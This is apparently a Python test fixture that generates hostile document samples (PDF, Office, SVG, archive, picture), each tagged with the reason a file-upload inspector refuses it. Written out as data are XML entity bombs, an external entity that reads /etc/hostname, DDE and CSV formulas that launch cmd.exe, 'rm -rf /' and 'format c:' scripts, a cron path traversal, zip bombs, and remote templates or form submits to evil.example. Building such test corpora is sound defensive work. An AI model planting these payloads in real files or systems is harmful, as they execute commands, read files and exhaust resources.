"""Hostile files, made by code: (name, content, the reason for which each must be refused)."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.statute.inspection import made

LAUGHS = (
    """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">"""
    + "".join(f'<!ENTITY lol{number} "{f"&lol{number - 1 if number else str()};" * 10}">' for number in range(9))
    + "]><w:document>&lol8;</w:document>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    '<svg xmlns="http://www.w3.org/2000/svg">&e;</svg>'
)
DDE = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    '<w:r><w:instrText>EAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
)
REMOTE = ' TargetMode="External"'


@dataclass(frozen=True)
class Hostile:
    """A file, and the code of the reason for which it must be refused."""

    what: str
    name: str
    code: str
    make: Callable[[], bytes]


def _word_link(kind: str, target: str) -> bytes:
    rels = made.unzipped(made.word())["word/_rels/document.xml.rels"].decode()
    link = f'<Relationship Id="rX" Type="{made.OFFICE}/{kind}" Target="{target}"{REMOTE}/></Relationships>'
    more = {"word/_rels/document.xml.rels": rels.replace("</Relationships>", link).encode()}
    return made.with_parts(made.word(), more)


def _in_word(xml: str) -> bytes:
    return made.edited(made.word(), document=("</w:p>", f"{xml}</w:p>"))


def _with(name: str, part: bytes = b"x", content: bytes | None = None) -> bytes:
    return made.with_parts(content or made.word(), {name: part})


def _action(**keys: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(**keys))

    return made.pdf_with(change)


def _page_key(key: str, value: object) -> bytes:
    return made.pdf_with(lambda document: document.pages[0].obj.__setitem__(key, value))


def _root_key(key: str, value: Callable[[pikepdf.Pdf], object]) -> bytes:
    return made.pdf_with(lambda document: document.Root.__setitem__(key, value(document)))


def _attached() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="a.exe")

    return made.pdf_with(change)


def _locked() -> bytes:
    return made.pdf_with(lambda _: None, encryption=pikepdf.Encryption(owner="o", user="u"))


def _stream_bomb() -> bytes:
    twice = zlib.compress(zlib.compress(bytes(600_000_000), 9), 9)

    def change(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, twice)
        stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        document.pages[0].obj["/Contents"] = document.make_indirect(stream)

    return made.pdf_with(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _picture_in_pdf() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(document, b"x", Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000,
                               ColorSpace=Name.DeviceGray, BitsPerComponent=8)  # fmt: skip
        document.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(I=document.make_indirect(image)))

    return made.pdf_with(change)


def _bomb(name: str = "word/media/a.bin") -> bytes:
    return _with(name, bytes(150_000_000))


def _nested() -> bytes:
    inner = made.zipped({"a.txt": b"a"})
    for _ in range(4):
        inner = made.zipped({"a.zip": inner})
    return _with("word/media/a.zip", inner)


def _swapped(before: bytes, after: bytes, times: int = 1) -> bytes:
    """A Word file in whose bytes something was replaced behind the library's back."""
    content = _with("word/media/innocent.txt", b"a" * 200)
    assert before in content
    return content.replace(before, after, times)


def _overlapping() -> bytes:
    """Two entries of the directory that lead to the same bytes, as in a bomb without nesting."""
    content = made.zipped({"OFD.xml": made.unzipped(made.ofd())["OFD.xml"]})
    start = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    entry = content[start:end]
    second = entry.replace(b"OFD.xml", b"OFE.xml")
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(entry) * 2, start, 0)
    return content[:start] + entry + second + tail


def _many() -> bytes:
    return made.zipped({"OFD.xml": b"<a/>"} | {f"{number}.txt": b"" for number in range(5_001)})


def _traversing() -> bytes:
    return _with("../../../etc/cron.d/evil", b"x")


def _sealed() -> bytes:
    content = bytearray(made.word())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def _big_png() -> bytes:
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    parts = (made.chunk(b"IHDR", head), made.chunk(b"IDAT", zlib.compress(bytes(1000))), made.chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _sheet_part(name: str, part: bytes) -> bytes:
    return _with(name, part, made.sheet())


def _macro_name() -> bytes:
    return made.sheet(lambda book, page: book.define_name("Auto_Open", "=许可结果!$A$1"))


def _macro_type() -> bytes:
    before = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    content = made.unzipped(made.word())
    after = "application/vnd.ms-word.document.macroEnabled.main+xml"
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(before.encode(), after.encode())
    return made.zipped(content)


SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
SVG = 'href="javascript:alert(1)"'
HOSTILE: tuple[Hostile, ...] = (
    Hostile("nothing", "空.pdf", "empty", lambda: b""),
    Hostile("noise", "a.pdf", "unknown_kind", lambda: bytes(range(256)) * 4),
    Hostile("a program under a document's name", "通知.pdf", "name_lies", lambda: b"MZ" + bytes(400)),
    Hostile("a program", "a.exe", "program", lambda: b"MZ" + bytes(400)),
    Hostile("a Linux program", "a.so", "program", lambda: b"\x7fELF" + bytes(400)),
    Hostile("a shell script as text", "a.txt", "name_lies", lambda: b"#!/bin/sh\nrm -rf /\n"),
    Hostile("a batch file", "a.bat", "name_lies", lambda: b"@echo off\r\nformat c:\r\n"),
    Hostile("a web page under a picture's name", "图.png", "name_lies", lambda: b"<html><script>1</script></html>"),
    Hostile("a picture under a PDF's name", "图.pdf", "name_lies", made.picture),
    Hostile("a Word file under a PDF's name", "a.pdf", "name_lies", made.word),
    Hostile("a zip under a Word file's name", "a.docx", "name_lies", lambda: made.zipped({"a.txt": b"a"})),
    Hostile("a name written backwards", "通知\u202efdp.docx", "deceptive_name", made.word),
    Hostile("a web page", "a.html", "web_page", lambda: b"<!doctype html><p>a"),
    Hostile("a script in a web page", "a.html", "script", lambda: b"<!doctype html><script>alert(1)</script>"),
    Hostile("a web page sent as mail", "a.mht", "web_page",
            lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n<p>"),
    Hostile("a script in a text", "a.txt", "script", lambda: "说明<script>alert(1)</script>".encode()),
    Hostile("an archive", "a.zip", "archive", lambda: made.zipped({"a.txt": b"a"})),
    Hostile("a RAR archive", "a.rar", "archive_sealed", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99)),
    Hostile("a 7z archive", "a.7z", "archive_sealed", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99)),
    Hostile("a gzip bomb", "a.gz", "archive_sealed", lambda: b"\x1f\x8b\x08" + bytes(99)),
    Hostile("a Java archive", "a.zip", "name_lies", lambda: made.zipped({"META-INF/MANIFEST.MF": b"a"})),
    Hostile("an old Word file", "a.doc", "old_office", lambda: made.compound("WordDocument")),
    Hostile("an old Word file with macros", "a.doc", "macro", lambda: made.compound("WordDocument", "Macros", "VBA")),
    Hostile("an old workbook with macros", "a.xls", "macro", lambda: made.compound("Workbook", "_VBA_PROJECT_CUR")),
    Hostile("an old WPS file", "a.wps", "old_office", lambda: made.compound("WordDocument")),
    Hostile("an encrypted Word file", "a.docx", "name_lies", lambda: made.compound("EncryptedPackage")),
    Hostile("rich text with an object", "a.rtf", "ole", lambda: b"{\\rtf1{\\object\\objdata 0105}}"),
    Hostile("an installer", "a.msi", "unknown_kind", lambda: made.compound("!_Columns")),
    # Polyglots
    Hostile("a PDF that is a zip, too", "a.pdf", "polyglot", lambda: made.bare_pdf() + made.zipped({"a": b"a"})),
    Hostile("a zip inside a PDF's end", "a.pdf", "polyglot",
            lambda: made.bare_pdf() + made.zipped({"a": b"a"}) + b"\n%%EOF\n"),
    Hostile("a PDF behind a zip", "a.pdf", "header", lambda: b"PK\x03\x04" + bytes(60) + made.bare_pdf()),
    Hostile("a PDF behind a web page", "a.pdf", "header", lambda: b"<html><script>1</script>\n" + made.bare_pdf()),
    Hostile("a web page in a PDF's head", "a.pdf", "polyglot",
            lambda: made.bare_pdf().replace(b"\n", b"\n<html><script>1</script>\n", 1)),
    Hostile("a GIF that is a script", "a.gif", "trailing", lambda: made.picture("GIF") + b"*/=1;alert(1)"),
    Hostile("a GIF whose size is a comment", "a.gif", "damaged",
            lambda: b"GIF89a/*" + bytes(3) + b"*/=1;alert(1);//" + bytes(40)),
    Hostile("a PNG with a zip behind it", "a.png", "trailing", lambda: made.picture() + made.zipped({"a": b"a"})),
    Hostile("a JPEG with a page behind it", "a.jpg", "trailing",
            lambda: made.picture("JPEG") + b"<script>1</script>"),
    Hostile("a PDF with something behind it", "a.pdf", "trailing", lambda: made.bare_pdf() + b"MZ program"),
    Hostile("a Word file with something behind it", "a.docx", "trailing", lambda: made.word() + b"more"),
    Hostile("a film with a program behind it", "a.mp4", "trailing", lambda: made.film() + b"MZ program"),
    Hostile("a recording with a page behind it", "a.mp3", "trailing", lambda: made.sound() + b"<script>1</script>"),
    # Damage
    Hostile("half a PDF", "a.pdf", "truncated", lambda: made.pdf()[:2000]),
    Hostile("a PDF without its table", "a.pdf", "damaged", lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"),
    Hostile("half a Word file", "a.docx", "truncated", lambda: made.word()[:9000]),
    Hostile("half a PNG", "a.png", "truncated", lambda: made.picture()[:-30]),
    Hostile("half a JPEG", "a.jpg", "truncated", lambda: made.picture("JPEG")[:-200]),
    Hostile("half a GIF", "a.gif", "truncated", lambda: made.picture("GIF")[:-100]),
    Hostile("half a film", "a.mp4", "truncated", lambda: made.film()[:-20]),
    Hostile("a PNG with a wrong sum", "a.png", "damaged",
            lambda: made.picture().replace(b"IEND\xaeB`\x82", b"IEND\0\0\0\0")),
    # Containers
    Hostile("a zip bomb", "a.docx", "zip_bomb", _bomb),
    Hostile("archives within archives", "a.docx", "nested", _nested),
    Hostile("members that overlap", "a.ofd", "overlap", _overlapping),
    Hostile("too many members", "a.ofd", "too_many_members", _many),
    Hostile("a path that leads out", "a.docx", "traversal", _traversing),
    Hostile("a path of Windows", "a.docx", "traversal", lambda: _with("C:/Windows/evil.txt")),
    Hostile("a locked Word file", "a.docx", "encrypted", _sealed),
    Hostile("two names of one member", "a.docx", "ambiguous", lambda: _with("WORD/document.xml")),
    Hostile("a member whose head has another name", "a.docx", "ambiguous",
            lambda: _swapped(b"innocent", b"terrible")),
    Hostile("bytes before the first member", "a.docx", "unknown_kind", lambda: b"junk" * 8 + made.word()),
    # Office
    Hostile("macros in a Word file", "a.docx", "macro", lambda: _with("word/vbaProject.bin")),
    Hostile("a Word file declared with macros", "a.docx", "macro", _macro_type),
    Hostile("a macro sheet", "a.xlsx", "macro", lambda: _sheet_part("xl/macrosheets/sheet1.xml", b"<a/>")),
    Hostile("a macro sheet by what it is", "a.xlsx", "macro", lambda: _sheet_part("xl/x.xml", b"<macrosheet/>")),
    Hostile("a name by which macros start", "a.xlsx", "macro", _macro_name),
    Hostile("DDE cut into runs", "a.docx", "dde", lambda: _in_word(DDE)),
    Hostile("DDE in a link of a workbook", "a.xlsx", "dde",
            lambda: _sheet_part("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>")),
    Hostile("DDE in a CSV", "a.csv", "dde", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n"),
    Hostile("ActiveX", "a.docx", "activex", lambda: _with("word/activeX/activeX1.xml", b"<a/>")),
    Hostile("an embedded object", "a.docx", "ole",
            lambda: _with("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
    Hostile("a page taken in", "a.docx", "ole", lambda: _with("word/afchunk.mht", b"<html>")),
    Hostile("a document taken in whole", "a.docx", "ole", lambda: _word_link("aFChunk", "other.docx")),
    Hostile("a template from elsewhere", "a.docx", "external",
            lambda: _word_link("attachedTemplate", "http://evil.example/t.dotm")),
    Hostile("a template from a share", "a.docx", "external",
            lambda: _word_link("attachedTemplate", "\\\\evil\\t.dotm")),
    Hostile("a picture from elsewhere", "a.docx", "external",
            lambda: _word_link("image", "http://evil.example/pixel.png")),
    Hostile("a frame from elsewhere", "a.docx", "external", lambda: _word_link("frame", "http://evil.example/")),
    Hostile("a scripted link", "a.docx", "script", lambda: _word_link("hyperlink", "javascript:alert(1)")),
    Hostile("a connection to a database", "a.xlsx", "external",
            lambda: _sheet_part("xl/connections.xml", b"<connections/>")),
    Hostile("a slide that starts a program", "a.pptx", "launch",
            lambda: made.slides('<a:hlinkClick action="ppaction://program"/>')),
    Hostile("billion laughs in a Word file", "a.docx", "entities",
            lambda: _with("word/document2.xml", LAUGHS.encode())),
    Hostile("billion laughs in UTF-16", "a.docx", "entities",
            lambda: _with("word/document2.xml", LAUGHS.encode("utf-16"))),
    Hostile("entities in a sheet", "a.xlsx", "entities",
            lambda: _sheet_part("xl/worksheets/sheet9.xml", LAUGHS.encode())),
    Hostile("a picture bomb in a Word file", "a.docx", "giant_picture",
            lambda: _with("word/media/image9.png", _big_png())),
    Hostile("a macro in an open text", "a.odt", "macro",
            lambda: made.open_text(more={"Basic/Standard/M.xml": b"<a/>"})),
    Hostile("an event in an open text", "a.odt", "script", lambda: made.open_text("<script:event-listener/>")),
    Hostile("an attachment in OFD", "a.ofd", "attachment",
            lambda: made.ofd(more={"Doc_0/Attachs/A.xml": b"<Attachments><Attachment/></Attachments>"})),
    # PDF
    Hostile("a script in a PDF", "a.pdf", "script", lambda: _action(S=Name.JavaScript, JS="app.alert(1)")),
    Hostile("a PDF that starts a program", "a.pdf", "launch", lambda: _action(S=Name.Launch, F="cmd.exe")),
    Hostile("a PDF that opens a page by itself", "a.pdf", "open_action",
            lambda: _action(S=Name.URI, URI="http://evil.example")),
    Hostile("a PDF that sends a form", "a.pdf", "submit",
            lambda: _action(S=Name.SubmitForm, F="http://evil.example")),
    Hostile("a script on a page", "a.pdf", "script", lambda: _page_key("/AA", Dictionary(O=SCRIPT))),
    Hostile("an attached program", "a.pdf", "attachment", _attached),
    Hostile("a dynamic form", "a.pdf", "xfa", lambda: _root_key("/AcroForm", lambda _: Dictionary(XFA="<xdp/>"))),
    Hostile("rich media", "a.pdf", "multimedia",
            lambda: _page_key("/Annots", Array([Dictionary(Subtype=Name.RichMedia)]))),
    Hostile("a locked PDF", "a.pdf", "encrypted", _locked),
    Hostile("a bomb in a PDF's stream", "a.pdf", "zip_bomb", _stream_bomb),
    Hostile("a giant picture in a PDF", "a.pdf", "giant_picture", _picture_in_pdf),
    # Drawings and pictures
    Hostile("a script in a drawing", "a.svg", "script", lambda: made.drawing("<script>alert(1)</script>")),
    Hostile("an event in a drawing", "a.svg", "event", lambda: made.drawing('<rect onload="alert(1)"/>')),
    Hostile("a page in a drawing", "a.svg", "foreign",
            lambda: made.drawing("<foreignObject><p>a</p></foreignObject>")),
    Hostile("a scripted link in a drawing", "a.svg", "script", lambda: made.drawing(f"<g xlink:{SVG}/>")),
    Hostile("a fetched picture in a drawing", "a.svg", "external",
            lambda: made.drawing('<image href="http://evil.example/p"/>')),
    Hostile("a fetched style in a drawing", "a.svg", "external",
            lambda: made.drawing("<style>@import url(http://evil)</style>")),
    Hostile("an animation that sets a link", "a.svg", "foreign",
            lambda: made.drawing('<animate attributeName="href" to="x"/>')),
    Hostile("an entity in a drawing", "a.svg", "entities", lambda: OUTSIDE.encode()),
    Hostile("a picture of 2,500 megapixels", "a.png", "giant_picture", _big_png),
    Hostile("a TIFF", "a.tif", "convert", lambda: made.picture("TIFF")),
)  # fmt: skip
